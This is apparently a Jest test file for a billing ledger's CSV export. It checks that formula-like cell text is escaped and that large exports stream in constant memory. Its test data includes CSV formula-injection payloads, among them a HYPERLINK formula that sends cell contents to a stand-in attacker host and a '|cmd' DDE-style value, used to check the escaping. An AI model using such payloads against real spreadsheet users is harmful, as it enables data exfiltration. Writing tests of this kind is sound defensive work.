import { get } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { fromMicroCredits, type Explanation, type LedgerRow } from '@tandem/contracts';
import { parse } from 'csv-parse/sync';
import { CreditLedger } from '../../src/modules/ledger/credit-ledger.ts';
import { openBooks, type Books } from '../support/books.ts';

const ROWS = 50_000;
/** Each row is at least this long, so the whole file is. */
const NOTE_LENGTH = 1000;

interface LedgerAnswer {
  readonly items: LedgerRow[];
  readonly next_cursor: string | null;
}

let books: Books;

beforeAll(async () => {
  books = await openBooks();
});
afterAll(() => books.studio.close());

async function idOf(key: string): Promise<string> {
  const { rows } = await books.studio.pool.query<{ account_id: string }>(
    'SELECT account_id FROM accounts WHERE external_key = $1',
    [key],
  );
  return rows[0]?.account_id ?? '';
}

test('text that a spreadsheet would run is made plain, whatever else it holds comes back as it was, numbers stay numbers', async () => {
  const key = await books.account();
  const hostile = [
    '=HYPERLINK("http://evil.test?"&A1,"click")',
    '+1+1',
    '-2+3|cmd',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    'two\r\nlines, a comma and a "quote"',
    '"',
    'ünï©ødé 漢字 🚲 \u202egnp.exe',
    "'already quoted",
    `=${'x'.repeat(999)}`,
    ' =with a space',
  ];
  const ledger = books.studio.app.get(CreditLedger);
  await books.send('grant', key, { amount: 1000 });
  for (const [n, text] of hostile.entries()) {
    const outcome = await ledger.apply({
      accountId: await idOf(key),
      operation: 'charge',
      client: 'v1',
      idempotencyKey: `h${n}`,
      amount: fromMicroCredits(1_500_000n),
      refType: text,
      refId: text,
      actor: text,
      reason: text,
    });
    expect(outcome.outcome).toBe('POSTED');
  }
  const { text } = await books.service.get(`/v1/billing/accounts/${key}/ledger.csv`).expect(200);
  const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });
  expect(rows).toHaveLength(hostile.length + 1);
  for (const [n, original] of hostile.entries()) {
    const row = rows[n + 1] ?? {};
    const plain = /^[=+\-@\t\r]/.test(original) ? `'${original}` : original;
    expect([row.ref_type, row.ref_id, row.acting_user, row.note]).toEqual([plain, plain, plain, plain]);
    expect([row.delta, row.balance_delta, row.reserved_delta]).toEqual(['-1.5', '-1.5', '0']);
    expect(row.balance_after).toBe(String(1000 - 1.5 * (n + 1)));
  }
  // No cell of the file begins as a formula, and every number is one.
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      const isNumber = /^-?\d+(\.\d+)?$/.test(cell);
      expect([column, isNumber || !/^[=+\-@\t\r]/.test(cell)]).toEqual([column, true]);
    }
  }
});

/** An account with many movements, written straight into its books: a grant, a hold, then charges of one credit. */
async function busyAccount(): Promise<string> {
  const key = await books.account();
  const id = await idOf(key);
  await books.send('grant', key, { amount: ROWS * 2 });
  await books.send('reserve', key, { amount: 3, ref_type: 'job', ref_id: 'old', expires_in_minutes: 600 });
  for (let first = 1; first <= ROWS; first += 10_000) {
    await books.studio.pool.query(
      `INSERT INTO ledger (account_id, seq, entry_id, kind, balance_delta_micro, reserved_delta_micro, balance_after_micro,
                           reserved_after_micro, client, operation, idempotency_key, request_digest, reason, effective_at, created_at)
       SELECT $1, 2 + n, gen_random_uuid(), 'CHARGE', -1000000, 0, ($3::bigint * 2 - n) * 1000000, 3000000, 'v1', 'charge', 'bulk' || n,
              '\\x00', '=' || repeat('x', $4), now_at, now_at
         FROM generate_series($2::bigint, $2 + 9999) n, (SELECT ledger_clock() AS now_at) clock`,
      [id, first, ROWS, NOTE_LENGTH],
    );
  }
  await books.studio.pool.query(
    'UPDATE wallets SET seq = $2::bigint + 2, balance_micro = $2::bigint * 1000000 WHERE account_id = $1',
    [id, ROWS],
  );
  return key;
}

/** Reads an answer as it comes, and looks at the memory in use every few thousand lines. */
async function download(path: string): Promise<{ lines: number; bytes: number; heaps: number[] }> {
  setFlagsFromString('--expose-gc');
  const collectGarbage = runInNewContext('gc') as () => void;
  const url = new URL(path, await books.studio.app.getUrl());
  const headers = await books.studio.serviceToken();
  return new Promise((resolve, reject) => {
    get(url, { headers }, (response) => {
      let [lines, bytes, nextLook] = [0, 0, 0];
      const heaps: number[] = [];
      response.on('data', (chunk: Buffer) => {
        bytes += chunk.length;
        for (const byte of chunk) if (byte === 10) lines += 1;
        if (lines < nextLook) return;
        nextLook += 5000;
        collectGarbage();
        const { heapUsed, external } = process.memoryUsage();
        heaps.push(heapUsed + external);
      });
      response.on('end', () => resolve({ lines, bytes, heaps }));
      response.on('error', reject);
    }).on('error', reject);
  });
}

test('a file of 50,000 movements is written in constant memory, and an account that large is explained at once', async () => {
  const key = await busyAccount();
  const { lines, bytes, heaps } = await download(`/v1/billing/accounts/${key}/ledger.csv?kind=CHARGE`);
  expect(lines).toBe(ROWS + 1);
  expect(bytes).toBeGreaterThan(ROWS * NOTE_LENGTH);
  expect(heaps.length).toBeGreaterThan(8);
  // The first look still sees what came before. A file put together first would hold more than 50 MB.
  const later = heaps.slice(1);
  expect(Math.max(...later) - Math.min(...later)).toBeLessThan(10 * 1024 * 1024);

  const found = await books.get<Explanation>(`/v1/billing/accounts/${key}/explain`);
  expect(found).toMatchObject({
    last_seq: ROWS + 2,
    opening_seq: ROWS + 2 - 10_000,
    balance: {
      amount: ROWS,
      opening: ROWS + 10_000,
      movements: [{ reason: 'CHARGE', count: 10_000, amount: -10_000 }],
    },
    reserved: { amount: 3, opening: 3, movements: [] },
    holds: [{ seq: 2, held: 3, ref_id: 'old' }],
    holds_complete: true,
    // Its lots were never folded: said, not guessed.
    lots: [],
    lots_complete: false,
    overdraft_used: null,
  });
  const { body } = await books.service.get(`/v1/billing/accounts/${key}/lots`).expect(503);
  expect(body).toMatchObject({ code: 'unavailable' });

  // A filter that fits little is looked for in steps: a page may be empty and have a next one.
  const search = { external_key: key, kind: 'GRANT' };
  const first = await books.get<LedgerAnswer>('/v1/billing/credits/ledger', search);
  expect(first).toEqual({ items: [], next_cursor: expect.any(String) });
  const second = await books.get<LedgerAnswer>('/v1/billing/credits/ledger', { ...search, cursor: first.next_cursor });
  expect(second).toMatchObject({ items: [{ seq: 1, reason: 'GRANT' }], next_cursor: null });
}, 120_000);
